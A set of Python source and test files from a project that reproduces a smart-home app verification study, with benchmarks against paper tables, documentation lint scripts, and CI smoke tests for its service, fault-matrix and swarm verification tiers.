    config.add_app("Unlock Door", {"lock1": "doorLock"})
    system = generator.build(config)
    properties = build_properties()

    sequential = benchmark(verify, system, properties, max_events=2)
    concurrent = verify(system, properties, mode=CONCURRENT, max_events=2,
                        max_states=200000)
    rows = [("sequential", sequential.states_explored,
             ", ".join(sequential.violated_property_ids)),
            ("concurrent", concurrent.states_explored,
             ", ".join(concurrent.violated_property_ids))]
    print_table("Sequential vs concurrent on a bad group "
                "(same violations, fewer states)",
                ["design", "states", "violated properties"], rows)
    assert set(sequential.violated_property_ids) == set(
        concurrent.violated_property_ids)
