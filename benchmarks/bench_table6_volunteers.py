"""Table 6: verification results with volunteer (non-expert) configurations.

The paper: 7 volunteers x 10 app groups = 70 configurations, yielding 97
violations of 10 properties (conflicting 19, repeated 12, unsafe physical
states 66).  We model each volunteer as a deterministic misconfiguration
profile; the bench sweeps all 70 configurations.
"""

from repro.attribution.volunteers import volunteer_verification_jobs
from repro.engine import EngineOptions, verify_many

from conftest import print_table
from repro.properties.base import KIND_CONFLICT, KIND_INVARIANT, KIND_REPEAT

_OPTIONS = dict(max_events=2, max_states=30000)


def run_volunteer_study(registry, generator, groups=None, profiles=None,
                        workers=1):
    """Verify every (group, profile) configuration through the batch
    engine; returns violations per configuration."""
    jobs = volunteer_verification_jobs(
        registry, options=EngineOptions(**_OPTIONS), groups=groups,
        profiles=profiles)
    batch = verify_many(jobs, workers=workers)
    assert not batch.errors, batch.errors
    outcomes = {}
    for name, result in batch.results.items():
        group_name, profile_name = name.split("/", 1)
        outcomes[(group_name, profile_name)] = result.violations
    return outcomes


def test_table6_volunteer_study(registry, generator, benchmark):
    outcomes = benchmark.pedantic(
        run_volunteer_study, args=(registry, generator),
        iterations=1, rounds=1)

    total = sum(len(v) for v in outcomes.values())
    violating_configs = sum(1 for v in outcomes.values() if v)
    by_kind = {KIND_CONFLICT: 0, KIND_REPEAT: 0, KIND_INVARIANT: 0}
    properties = set()
    for violations in outcomes.values():
        for violation in violations:
            if violation.property.kind in by_kind:
                by_kind[violation.property.kind] += 1
            properties.add(violation.property.id)

    rows = [
        ("Conflicting commands", by_kind[KIND_CONFLICT], 19),
        ("Repeated commands", by_kind[KIND_REPEAT], 12),
        ("Unsafe physical states", by_kind[KIND_INVARIANT], 66),
        ("TOTAL violations", total, 97),
        ("violated properties", len(properties), 10),
        ("violating configurations (of 70)", violating_configs, "-"),
    ]
    print_table("Table 6 - market apps with volunteer configurations "
                "(70 configurations)",
                ["violation type", "measured", "paper"], rows)

    assert len(outcomes) == 70
    # the shape: non-expert configs yield tens of violations across all
    # three types, concentrated in unsafe physical states
    assert total >= 40
    assert by_kind[KIND_INVARIANT] > by_kind[KIND_CONFLICT]
    assert by_kind[KIND_INVARIANT] > by_kind[KIND_REPEAT]
    assert len(properties) >= 8


def test_table6_profiles_differ(registry, generator, benchmark):
    """Different volunteers misconfigure differently: the study only
    makes sense if profiles produce different violation sets."""
    outcomes = benchmark.pedantic(
        run_volunteer_study, args=(registry, generator),
        kwargs={"groups": ["vgroup02"]}, iterations=1, rounds=1)

    signatures = {}
    for (group, profile), violations in outcomes.items():
        signatures[profile] = frozenset(v.property.id for v in violations)
    rows = [(profile, len(sig), ", ".join(sorted(sig)) or "-")
            for profile, sig in sorted(signatures.items())]
    print_table("Table 6 (detail) - vgroup02 (climate) per volunteer",
                ["profile", "violations", "properties"], rows)
    assert len(set(signatures.values())) >= 2
