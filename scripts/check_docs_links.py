"""Offline link check for the docs site (and the README).

`mkdocs build --strict` already fails the CI docs job on broken
internal links, but it needs the mkdocs dependency; this script does
the same check with the standard library only, so it runs in the plain
test environment and as a pre-push sanity command:

    python scripts/check_docs_links.py

Checked, for every ``docs/*.md`` page plus ``README.md``:

* relative markdown links resolve to an existing file;
* fragment links (``page.md#section``) resolve to a heading that
  actually renders that anchor (GitHub/mkdocs slug rules: lowercase,
  punctuation stripped, spaces to hyphens);
* pages referenced by ``mkdocs.yml``'s nav exist, and every docs page
  is reachable from the nav (no orphans).

External (``http(s)://``) links are deliberately *not* fetched - CI
must not flake on third-party outages.
"""

import os
import re
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
DOCS = os.path.join(ROOT, "docs")

#: ``[text](target)`` - images excluded via the negative lookbehind
_LINK = re.compile(r"(?<!\!)\[[^\]]*\]\(([^)\s]+)\)")
_HEADING = re.compile(r"^#{1,6}\s+(.*)$", re.MULTILINE)
_NAV_PAGE = re.compile(r"^\s+-\s+[^:]+:\s+(\S+\.md)\s*$", re.MULTILINE)
_CODE_FENCE = re.compile(r"```.*?```", re.DOTALL)


def slugify(heading):
    """The anchor a markdown heading renders to (GitHub/mkdocs rules)."""
    text = re.sub(r"[`*_]", "", heading.strip()).lower()
    text = re.sub(r"[^\w\s-]", "", text, flags=re.UNICODE)
    return re.sub(r"[\s]+", "-", text).strip("-")


def page_anchors(path):
    with open(path, "r", encoding="utf-8") as handle:
        text = _CODE_FENCE.sub("", handle.read())
    return {slugify(match) for match in _HEADING.findall(text)}


def page_links(path):
    with open(path, "r", encoding="utf-8") as handle:
        text = _CODE_FENCE.sub("", handle.read())
    return _LINK.findall(text)


def check_page(path, problems):
    base = os.path.dirname(path)
    for target in page_links(path):
        if target.startswith(("http://", "https://", "mailto:")):
            continue
        name = os.path.relpath(path, ROOT)
        file_part, _, fragment = target.partition("#")
        resolved = (os.path.normpath(os.path.join(base, file_part))
                    if file_part else path)
        if not os.path.exists(resolved):
            problems.append("%s: broken link %r (no such file)"
                            % (name, target))
            continue
        if fragment and resolved.endswith(".md"):
            if fragment not in page_anchors(resolved):
                problems.append("%s: broken anchor %r (no heading renders "
                                "#%s)" % (name, target, fragment))


def check_nav(problems):
    nav_path = os.path.join(ROOT, "mkdocs.yml")
    with open(nav_path, "r", encoding="utf-8") as handle:
        nav_pages = set(_NAV_PAGE.findall(handle.read()))
    disk_pages = {entry for entry in os.listdir(DOCS)
                  if entry.endswith(".md")}
    for page in sorted(nav_pages - disk_pages):
        problems.append("mkdocs.yml: nav references missing page %r" % page)
    for page in sorted(disk_pages - nav_pages):
        problems.append("docs/%s: not reachable from the mkdocs nav" % page)


def main():
    problems = []
    pages = [os.path.join(DOCS, entry) for entry in sorted(os.listdir(DOCS))
             if entry.endswith(".md")]
    pages.append(os.path.join(ROOT, "README.md"))
    for path in pages:
        check_page(path, problems)
    check_nav(problems)
    for problem in problems:
        print("LINKCHECK: %s" % problem)
    if problems:
        return 1
    print("docs linkcheck: %d page(s), all internal links and anchors "
          "resolve" % len(pages))
    return 0


if __name__ == "__main__":
    sys.exit(main())
