#!/usr/bin/env python
"""CI smoke test for the fault-injection scenario matrix.

Runs one small bundled system through **every scenario profile on all
three engine tiers** and diffs the semantic verdict JSON (verdict,
violation set, state/transition counts, per-counterexample event paths
and rendered traces - wall-clock and cache statistics stripped).  Any
cell where a tier disagrees with the interpreted oracle fails the job:
the profiles are only trustworthy if the faulted relation is
tier-independent.

Exit code 0 on success, 1 on any mismatch.

Usage::

    PYTHONPATH=src python scripts/fault_matrix_smoke.py [--group NAME]
                                                        [--max-events N]
"""

import argparse
import json
import sys
import tempfile

ENGINES = ("interpreted", "compiled", "codegen")


def semantic_json(result):
    """The observables every tier must agree on, as canonical JSON."""
    view = {
        "verdict": result.verdict,
        "violated_property_ids": result.violated_property_ids,
        "states_explored": result.states_explored,
        "transitions": result.transitions,
        "truncated": result.truncated,
        "counterexamples": {
            repr(key): {"events": ce.event_labels(),
                  "steps": [(step.kind, step.text, step.app)
                            for step in ce.all_steps()]}
            for key, ce in sorted(result.counterexamples.items())},
    }
    return json.dumps(view, sort_keys=True, indent=2)


def run_cell(group, scenario, engine, max_events, codegen_cache):
    from repro import build_system
    from repro.corpus.groups import GROUP_BUILDERS
    from repro.engine import EngineOptions, ExplorationEngine
    from repro.properties import build_properties, select_relevant

    system = build_system(GROUP_BUILDERS[group]())
    properties = select_relevant(system, build_properties())
    options = EngineOptions(max_events=max_events, scenario=scenario,
                            engine=engine, codegen_cache=codegen_cache)
    return ExplorationEngine(system, properties, options).run()


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--group", default="group1-entry-and-mode")
    parser.add_argument("--max-events", type=int, default=2)
    args = parser.parse_args()

    from repro.model.faults import scenario_names

    mismatches = []
    codegen_cache = tempfile.mkdtemp(prefix="fault-matrix-codegen-")
    print("fault matrix: %s, max_events=%d" % (args.group, args.max_events))
    print("%-14s %-12s %10s %12s %8s" % ("scenario", "engine", "states",
                                         "transitions", "verdict"))
    for scenario in scenario_names():
        cells = {}
        for engine in ENGINES:
            result = run_cell(args.group, scenario, engine,
                              args.max_events, codegen_cache)
            cells[engine] = semantic_json(result)
            print("%-14s %-12s %10d %12d %8s"
                  % (scenario, engine, result.states_explored,
                     result.transitions, result.verdict))
        oracle = cells["interpreted"]
        for engine in ("compiled", "codegen"):
            if cells[engine] != oracle:
                mismatches.append((scenario, engine))
                print("MISMATCH: %s/%s diverges from the interpreted "
                      "oracle" % (scenario, engine))
                for line in _first_diff_lines(oracle, cells[engine]):
                    print("  " + line)
    if mismatches:
        print("\nFAIL: %d matrix cell(s) diverged: %s"
              % (len(mismatches),
                 ", ".join("%s/%s" % cell for cell in mismatches)))
        return 1
    print("\nOK: every scenario verdict is identical across all "
          "%d engine tiers" % len(ENGINES))
    return 0


def _first_diff_lines(left, right, context=3):
    """The first few differing lines of two JSON documents."""
    left_lines, right_lines = left.splitlines(), right.splitlines()
    shown = 0
    for index, (a, b) in enumerate(zip(left_lines, right_lines)):
        if a != b:
            yield "line %d: oracle %r != %r" % (index + 1, a, b)
            shown += 1
            if shown >= context:
                return
    if len(left_lines) != len(right_lines) and not shown:
        yield "document lengths differ: %d vs %d lines" % (
            len(left_lines), len(right_lines))


if __name__ == "__main__":
    sys.exit(main())
