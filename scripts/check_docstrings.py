"""Docstring-presence lint for the least-documented packages.

The CI docs job runs ruff's pydocstyle rules (``ruff check --select
D10`` scoped by ``ruff.toml``); this script enforces the same contract
with the standard library's ``ast`` only, so the plain test environment
(and ``tests/test_docs.py``) can gate on it without installing ruff:

    python scripts/check_docstrings.py

Scope (the ISSUE's list): ``repro/engine``, ``repro/service``,
``repro/model/schema.py`` and ``repro/model/compiler.py``.  Required:

* a module docstring per file;
* a docstring on every *public* class and every public function/method
  (name not starting with ``_``), except trivial delegations - single
  ``pass``/``raise``/``return``/expression bodies under 3 statements
  are exempt only when overriding a documented parent (dunder methods
  and ``__init__`` are always exempt: the class docstring covers them).
"""

import ast
import os
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

#: packages/files whose public surface must be documented
TARGETS = (
    "src/repro/engine",
    "src/repro/service",
    "src/repro/model/schema.py",
    "src/repro/model/compiler.py",
)


def target_files():
    for target in TARGETS:
        path = os.path.join(ROOT, target)
        if os.path.isfile(path):
            yield path
            continue
        for directory, _subdirs, files in sorted(os.walk(path)):
            for name in sorted(files):
                if name.endswith(".py"):
                    yield os.path.join(directory, name)


def _public(name):
    return not name.startswith("_")


def _is_trivial(node):
    """Short delegation bodies (≤2 statements, no docstring slot used)."""
    return len(node.body) <= 2


def check_file(path, problems):
    rel = os.path.relpath(path, ROOT)
    with open(path, "r", encoding="utf-8") as handle:
        tree = ast.parse(handle.read(), filename=rel)
    if ast.get_docstring(tree) is None:
        problems.append("%s:1: missing module docstring" % rel)

    def walk(node, prefix, in_class):
        for child in ast.iter_child_nodes(node):
            if isinstance(child, ast.ClassDef):
                if _public(child.name) and ast.get_docstring(child) is None:
                    problems.append("%s:%d: missing docstring on class %s%s"
                                    % (rel, child.lineno, prefix, child.name))
                walk(child, prefix + child.name + ".", True)
            elif isinstance(child, (ast.FunctionDef, ast.AsyncFunctionDef)):
                if (_public(child.name)
                        and ast.get_docstring(child) is None
                        and not (in_class and _is_trivial(child))):
                    problems.append(
                        "%s:%d: missing docstring on %s%s()"
                        % (rel, child.lineno, prefix, child.name))

    walk(tree, "", False)


def main():
    problems = []
    count = 0
    for path in target_files():
        count += 1
        check_file(path, problems)
    for problem in sorted(problems):
        print("DOCSTRING: %s" % problem)
    if problems:
        print("%d public definition(s) without docstrings across %d files"
              % (len(problems), count))
        return 1
    print("docstring check: %d files, every module and public definition "
          "documented" % count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
