#!/usr/bin/env python
"""CI smoke test for the continuous vetting service.

Boots ``repro serve`` as a real subprocess on a free port, submits two
bundled corpus configurations - one of them twice, so the second
submission must be answered from the content-addressed result store -
and asserts that every service verdict matches a direct in-process
``repro check`` of the same configuration.

Exit code 0 on success; the populated result store is left at
``--store`` (CI uploads it as an artifact).

Usage::

    PYTHONPATH=src python scripts/service_smoke.py [--store PATH]
"""

import argparse
import json
import os
import socket
import subprocess
import sys
import time
import urllib.request

GROUPS = ("group1-entry-and-mode", "group2-lighting")
MAX_EVENTS = 2


def free_port():
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def wait_for(url, timeout=30.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            with urllib.request.urlopen(url + "/healthz", timeout=2) as resp:
                if json.loads(resp.read())["status"] == "ok":
                    return
        except Exception:
            time.sleep(0.2)
    raise SystemExit("service did not come up within %.0fs" % timeout)


def post(url, path, payload):
    request = urllib.request.Request(
        url + path, data=json.dumps(payload).encode("utf-8"),
        headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=600) as response:
        return json.loads(response.read())


def direct_verdict(group):
    """The same verification, run in-process (the `repro check` path)."""
    from repro import build_system
    from repro.corpus.groups import GROUP_BUILDERS
    from repro.engine import EngineOptions, ExplorationEngine
    from repro.properties import build_properties, select_relevant

    system = build_system(GROUP_BUILDERS[group]())
    properties = select_relevant(system, build_properties())
    result = ExplorationEngine(system, properties,
                               EngineOptions(max_events=MAX_EVENTS)).run()
    return result.verdict, result.violated_property_ids


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--store", default="service-smoke-results.sqlite")
    args = parser.parse_args()

    port = free_port()
    url = "http://127.0.0.1:%d" % port
    env = dict(os.environ)
    env["PYTHONPATH"] = "src" + os.pathsep + env.get("PYTHONPATH", "")
    server = subprocess.Popen(
        [sys.executable, "-m", "repro", "serve", "--port", str(port),
         "--store", args.store, "--workers", "1"], env=env)
    failures = []
    try:
        wait_for(url)
        submissions = [GROUPS[0], GROUPS[1], GROUPS[0]]  # third is a re-submit
        snapshots = []
        for index, group in enumerate(submissions):
            snapshot = post(url, "/submit", {
                "group": group, "wait": 600,
                "options": {"max_events": MAX_EVENTS}})
            print("submission %d (%s): status=%s verdict=%s cached=%s"
                  % (index + 1, group, snapshot["status"],
                     snapshot.get("verdict"), snapshot.get("from_cache")))
            if snapshot["status"] != "done":
                failures.append("%s did not finish: %s" % (group, snapshot))
            snapshots.append(snapshot)

        if not snapshots[2].get("from_cache"):
            failures.append("re-submitting %s was not served from the "
                            "result store" % GROUPS[0])
        if snapshots[2].get("verdict") != snapshots[0].get("verdict"):
            failures.append("cached verdict diverged from the original run")

        for group, snapshot in zip(GROUPS, snapshots[:2]):
            verdict, property_ids = direct_verdict(group)
            print("direct check (%s): verdict=%s properties=%s"
                  % (group, verdict, property_ids))
            if snapshot.get("verdict") != verdict:
                failures.append(
                    "service verdict %r != direct check verdict %r for %s"
                    % (snapshot.get("verdict"), verdict, group))
            if sorted(snapshot.get("violated_property_ids") or []) != \
                    property_ids:
                failures.append("violated property ids diverged for %s"
                                % group)
    finally:
        server.terminate()
        server.wait(timeout=30)

    # reopening checkpoints the WAL into the main database file (the
    # server got SIGTERM, not a clean close) and proves the artifact the
    # CI uploads is a readable, populated store
    sys.path.insert(0, "src")
    from repro.service import ResultStore

    with ResultStore(args.store) as store:
        stats = store.stats()
        print("result store: %d entries (%d violated / %d safe)"
              % (stats["entries"], stats["violated"], stats["safe"]))
        if stats["entries"] != len(GROUPS):
            failures.append("expected %d store entries, found %d"
                            % (len(GROUPS), stats["entries"]))

    if failures:
        for failure in failures:
            print("FAIL:", failure, file=sys.stderr)
        return 1
    print("service smoke OK: %d submissions, 1 cache hit, verdicts match "
          "direct checks; store at %s" % (len(submissions), args.store))
    return 0


if __name__ == "__main__":
    sys.exit(main())
