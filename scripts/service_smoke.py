#!/usr/bin/env python
"""CI smoke test for the continuous vetting service.

Boots ``repro serve`` as a real subprocess on a free port, submits two
bundled corpus configurations - one of them twice, so the second
submission must be answered from the content-addressed result store -
and asserts that every service verdict matches a direct in-process
``repro check`` of the same configuration.

The live server is also scraped through ``GET /metrics`` before and
after the submissions: the body must parse as Prometheus text
exposition (:func:`repro.obs.parse_exposition` - a scraper is stricter
than a substring check) and the scheduler counters must advance.  The
direct checks run with a telemetry sink, which is then rendered through
the report path and left at ``--telemetry`` for CI to upload.

Exit code 0 on success; the populated result store is left at
``--store`` (CI uploads both artifacts).

Usage::

    PYTHONPATH=src python scripts/service_smoke.py [--store PATH]
        [--telemetry PATH]
"""

import argparse
import json
import os
import socket
import subprocess
import sys
import time
import urllib.request

GROUPS = ("group1-entry-and-mode", "group2-lighting")
MAX_EVENTS = 2


def free_port():
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def wait_for(url, timeout=30.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            with urllib.request.urlopen(url + "/healthz", timeout=2) as resp:
                if json.loads(resp.read())["status"] == "ok":
                    return
        except Exception:
            time.sleep(0.2)
    raise SystemExit("service did not come up within %.0fs" % timeout)


def post(url, path, payload):
    request = urllib.request.Request(
        url + path, data=json.dumps(payload).encode("utf-8"),
        headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=600) as response:
        return json.loads(response.read())


def get_text(url, path):
    with urllib.request.urlopen(url + path, timeout=60) as response:
        return response.read().decode("utf-8")


def scrape_metrics(url):
    """One `/metrics` scrape, parsed strictly; returns the sample map."""
    from repro.obs import parse_exposition

    return parse_exposition(get_text(url, "/metrics"))


def direct_verdict(group, telemetry_path=None):
    """The same verification, run in-process (the `repro check` path)."""
    from repro import build_system
    from repro.corpus.groups import GROUP_BUILDERS
    from repro.engine import EngineOptions, ExplorationEngine
    from repro.properties import build_properties, select_relevant

    telemetry = None
    if telemetry_path:
        telemetry = {"path": telemetry_path, "job": group, "interval": 64}
    system = build_system(GROUP_BUILDERS[group]())
    properties = select_relevant(system, build_properties())
    result = ExplorationEngine(system, properties,
                               EngineOptions(max_events=MAX_EVENTS,
                                             check_interval=64,
                                             telemetry=telemetry)).run()
    return result.verdict, result.violated_property_ids


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--store", default="service-smoke-results.sqlite")
    parser.add_argument("--telemetry", default="service-smoke-run.jsonl",
                        help="telemetry JSONL sink the direct checks "
                             "append to (uploaded as a CI artifact)")
    args = parser.parse_args()
    sys.path.insert(0, "src")

    port = free_port()
    url = "http://127.0.0.1:%d" % port
    env = dict(os.environ)
    env["PYTHONPATH"] = "src" + os.pathsep + env.get("PYTHONPATH", "")
    server = subprocess.Popen(
        [sys.executable, "-m", "repro", "serve", "--port", str(port),
         "--store", args.store, "--workers", "1"], env=env)
    if os.path.exists(args.telemetry):
        os.unlink(args.telemetry)  # the sink appends; start clean
    failures = []
    try:
        wait_for(url)
        before = scrape_metrics(url)
        if before.get("repro_scheduler_executed_total", {}).get((), 0) != 0:
            failures.append("fresh service reports executed runs")
        submissions = [GROUPS[0], GROUPS[1], GROUPS[0]]  # third is a re-submit
        snapshots = []
        for index, group in enumerate(submissions):
            snapshot = post(url, "/submit", {
                "group": group, "wait": 600,
                "options": {"max_events": MAX_EVENTS}})
            print("submission %d (%s): status=%s verdict=%s cached=%s"
                  % (index + 1, group, snapshot["status"],
                     snapshot.get("verdict"), snapshot.get("from_cache")))
            if snapshot["status"] != "done":
                failures.append("%s did not finish: %s" % (group, snapshot))
            snapshots.append(snapshot)

        if not snapshots[2].get("from_cache"):
            failures.append("re-submitting %s was not served from the "
                            "result store" % GROUPS[0])
        if snapshots[2].get("verdict") != snapshots[0].get("verdict"):
            failures.append("cached verdict diverged from the original run")

        after = scrape_metrics(url)
        executed = after.get("repro_scheduler_executed_total", {}).get((), 0)
        cache_hits = after.get(
            "repro_scheduler_cache_hits_total", {}).get((), 0)
        jobs = after.get("repro_scheduler_jobs", {}).get((), 0)
        print("metrics after submissions: executed=%g cache_hits=%g jobs=%g"
              % (executed, cache_hits, jobs))
        if executed != len(GROUPS):
            failures.append("expected %d executed runs on /metrics, got %g"
                            % (len(GROUPS), executed))
        if cache_hits < 1:
            failures.append("/metrics cache-hit counter did not advance on "
                            "the re-submission")
        if jobs != len(submissions):
            failures.append("expected %d job records on /metrics, got %g"
                            % (len(submissions), jobs))
        progress = json.loads(get_text(
            url, "/jobs/%s/progress" % snapshots[0]["id"]))
        if progress.get("status") != "done" or "result" not in progress:
            failures.append("/jobs/<id>/progress did not report the "
                            "finished job: %s" % progress)

        for group, snapshot in zip(GROUPS, snapshots[:2]):
            verdict, property_ids = direct_verdict(
                group, telemetry_path=args.telemetry)
            print("direct check (%s): verdict=%s properties=%s"
                  % (group, verdict, property_ids))
            if snapshot.get("verdict") != verdict:
                failures.append(
                    "service verdict %r != direct check verdict %r for %s"
                    % (snapshot.get("verdict"), verdict, group))
            if sorted(snapshot.get("violated_property_ids") or []) != \
                    property_ids:
                failures.append("violated property ids diverged for %s"
                                % group)
    finally:
        server.terminate()
        server.wait(timeout=30)

    # the telemetry artifact must be a readable, versioned sink that the
    # report path can render - the same contract `repro report` relies on
    from repro.obs import read_events, render_report

    events = read_events(args.telemetry)
    kinds = {event["kind"] for event in events}
    if not {"run_start", "run_end"} <= kinds:
        failures.append("telemetry sink %s is missing run events (kinds: %s)"
                        % (args.telemetry, sorted(kinds)))
    print(render_report(events))
    print("telemetry sink: %d events at %s" % (len(events), args.telemetry))

    # reopening checkpoints the WAL into the main database file (the
    # server got SIGTERM, not a clean close) and proves the artifact the
    # CI uploads is a readable, populated store
    from repro.service import ResultStore

    with ResultStore(args.store) as store:
        stats = store.stats()
        print("result store: %d entries (%d violated / %d safe)"
              % (stats["entries"], stats["violated"], stats["safe"]))
        if stats["entries"] != len(GROUPS):
            failures.append("expected %d store entries, found %d"
                            % (len(GROUPS), stats["entries"]))

    if failures:
        for failure in failures:
            print("FAIL:", failure, file=sys.stderr)
        return 1
    print("service smoke OK: %d submissions, 1 cache hit, verdicts match "
          "direct checks, /metrics parses and advances; store at %s"
          % (len(submissions), args.store))
    return 0


if __name__ == "__main__":
    sys.exit(main())
