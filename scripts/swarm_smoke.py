#!/usr/bin/env python
"""CI smoke test for the swarm verification tier.

Runs a small swarm (2 members by default) on one bundled group and
diffs its violation set against the exhaustive interpreted-oracle run
of the same configuration:

* every swarm-reported violation must exist in the exhaustive run,
  with an **identical** event path and rendered trace (the oracle-replay
  soundness contract);
* the swarm result must honestly report ``coverage == "partial"`` and
  zero replay failures;
* a repeat run with the same seed must produce the same semantic JSON
  (determinism).

Exit code 0 on success, 1 on any divergence.

Usage::

    PYTHONPATH=src python scripts/swarm_smoke.py [--group NAME]
                                                 [--max-events N]
                                                 [--members N] [--seed S]
"""

import argparse
import json
import sys


def semantic_json(result):
    """The sound observables of a run, as canonical JSON (wall-clock
    and cache statistics stripped)."""
    view = {
        "verdict": result.verdict,
        "violated_property_ids": result.violated_property_ids,
        "counterexamples": {
            repr(key): {"events": ce.event_labels(),
                        "steps": [(step.kind, step.text, step.app)
                                  for step in ce.all_steps()]}
            for key, ce in sorted(result.counterexamples.items())},
    }
    return json.dumps(view, sort_keys=True, indent=2)


def run(group, options):
    from repro import build_system
    from repro.corpus.groups import GROUP_BUILDERS
    from repro.engine import ExplorationEngine
    from repro.properties import build_properties, select_relevant

    system = build_system(GROUP_BUILDERS[group]())
    properties = select_relevant(system, build_properties())
    return ExplorationEngine(system, properties, options).run()


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--group", default="group1-entry-and-mode")
    parser.add_argument("--max-events", type=int, default=2)
    parser.add_argument("--members", type=int, default=2)
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()

    from repro.engine import EngineOptions

    problems = []
    print("swarm smoke: %s, max_events=%d, %d member(s), seed %d"
          % (args.group, args.max_events, args.members, args.seed))
    oracle = run(args.group, EngineOptions(max_events=args.max_events,
                                           engine="interpreted"))
    print("oracle:  %8d states %10d transitions %8s (%d violation(s))"
          % (oracle.states_explored, oracle.transitions, oracle.verdict,
             len(oracle.counterexamples)))

    def swarm_options():
        return EngineOptions(max_events=args.max_events, mode="swarm",
                             swarm_members=args.members, seed=args.seed)

    swarm = run(args.group, swarm_options())
    print("swarm:   %8d states %10d transitions %8s (%d violation(s), "
          "%d candidate(s), %d replay failure(s))"
          % (swarm.states_explored, swarm.transitions, swarm.verdict,
             len(swarm.counterexamples), swarm.swarm["candidates"],
             swarm.swarm["replay_failures"]))

    if swarm.coverage != "partial":
        problems.append("swarm coverage is %r, expected 'partial'"
                        % (swarm.coverage,))
    if swarm.swarm["replay_failures"]:
        problems.append("%d candidate(s) failed oracle replay"
                        % swarm.swarm["replay_failures"])

    oracle_view = json.loads(semantic_json(oracle))
    swarm_view = json.loads(semantic_json(swarm))
    for key, entry in sorted(swarm_view["counterexamples"].items()):
        expected = oracle_view["counterexamples"].get(key)
        if expected is None:
            problems.append("swarm reports violation %s the exhaustive "
                            "oracle never finds" % key)
        elif entry != expected:
            problems.append("violation %s: swarm trace differs from the "
                            "oracle's" % key)

    repeat = run(args.group, swarm_options())
    if semantic_json(repeat) != semantic_json(swarm):
        problems.append("same-seed repeat produced different semantics")

    if problems:
        for problem in problems:
            print("FAIL: %s" % problem)
        return 1
    print("\nOK: %d swarm violation(s) all replay byte-identically on the "
          "exhaustive oracle; coverage honestly partial; seed-deterministic"
          % len(swarm.counterexamples))
    return 0


if __name__ == "__main__":
    sys.exit(main())
