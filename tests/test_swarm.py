"""The swarm tier (:mod:`repro.engine.swarm`): sampled search, sound bugs.

The tentpole acceptance bar, pinned as tests:

* **corpus-wide soundness** - every violation a swarm reports, on every
  bundled expert group, replays byte-identically on the exhaustive
  interpreted-oracle run: swarm results may *miss* violations, never
  invent or distort one;
* **coverage honesty** - a swarm result always reports
  ``coverage == "partial"`` (even when members exhausted the space),
  and the vetting scheduler refuses to cache a swarm ``safe`` while
  still caching swarm-found violations;
* **determinism** - the swarm is a pure function of (system, options,
  seed): one seed, one byte-identical ``SwarmResult`` JSON;
* **accounting** - member stats sum to the merged totals, per-member
  budgets truncate honestly, duplicate member finds collapse into one
  deduplicated violation set;
* **memory** - depth-5 group1 completes exhaustively inside a hard
  address-space cap with the disk-backed visited store, where the
  default in-RAM configuration needs gigabytes.
"""

import json
import os
import subprocess
import sys
import textwrap

import pytest

from repro.config.schema import SystemConfiguration
from repro.corpus import load_all_apps
from repro.corpus.groups import GROUP_BUILDERS
from repro.engine import EngineOptions, ExplorationResult, SwarmResult
from repro.engine.batch import VerificationJob, execute_job, execute_job_inline
from repro.service import ResultStore, Scheduler

from tests.conftest import _load_or_skip

GROUP1 = "group1-entry-and-mode"


def _group_job(group_name, **option_kwargs):
    _load_or_skip(load_all_apps)
    option_kwargs.setdefault("max_events", 2)
    return VerificationJob(group_name, GROUP_BUILDERS[group_name](),
                           EngineOptions(**option_kwargs), strict=False)


def _swarm_job(group_name, **option_kwargs):
    option_kwargs.setdefault("mode", "swarm")
    option_kwargs.setdefault("swarm_members", 3)
    option_kwargs.setdefault("seed", 11)
    return _group_job(group_name, **option_kwargs)


def _safe_config():
    """A deployment with no violated property: motion turns on a light."""
    config = SystemConfiguration()
    config.add_device("motion1", "smartsense-motion")
    config.add_device("switch1", "smart-outlet")
    config.add_app("Brighten My Path", {"motion1": "motion1",
                                        "switch1": "switch1"})
    return config


def _comparable(result):
    """The result dict with wall-clock fields stripped (never stable)."""
    data = result.to_dict()
    data.pop("elapsed", None)
    data.pop("profile", None)
    return data


# -- corpus-wide soundness ----------------------------------------------------


class TestCorpusSoundness:
    """Swarm violations are exhaustive-oracle violations, byte for byte."""

    @pytest.mark.parametrize("group_name", sorted(GROUP_BUILDERS))
    def test_swarm_violations_replay_on_the_oracle(self, group_name):
        exhaustive = execute_job_inline(
            _group_job(group_name, engine="interpreted"))
        swarm = execute_job_inline(_swarm_job(group_name))
        assert isinstance(swarm, SwarmResult)
        assert swarm.swarm["replay_failures"] == 0
        # never a violation the exhaustive oracle does not know
        assert set(swarm.counterexamples) <= set(exhaustive.counterexamples)
        for key, counterexample in swarm.counterexamples.items():
            assert (counterexample.to_dict()
                    == exhaustive.counterexamples[key].to_dict()), (
                group_name, key)
        # and with the default member diversification at these bounds
        # the swarm actually finds the full violation set
        assert (sorted(swarm.counterexamples)
                == sorted(exhaustive.counterexamples)), group_name
        assert swarm.verdict == exhaustive.verdict


# -- determinism --------------------------------------------------------------


class TestDeterminism:
    def test_same_seed_same_result_bytes(self):
        first = execute_job_inline(_swarm_job(GROUP1, seed=7))
        second = execute_job_inline(_swarm_job(GROUP1, seed=7))
        assert (json.dumps(_comparable(first), sort_keys=True)
                == json.dumps(_comparable(second), sort_keys=True))

    def test_result_json_round_trips_as_swarm_result(self):
        result = execute_job_inline(_swarm_job(GROUP1))
        restored = ExplorationResult.from_json(result.to_json())
        # the polymorphic loader hands back the subclass
        assert isinstance(restored, SwarmResult)
        assert restored.swarm == result.swarm
        assert restored.coverage == "partial"
        assert _comparable(restored) == _comparable(result)


# -- member accounting, budgets, dedup ----------------------------------------


class TestMemberAccounting:
    def test_member_stats_sum_to_the_merged_totals(self):
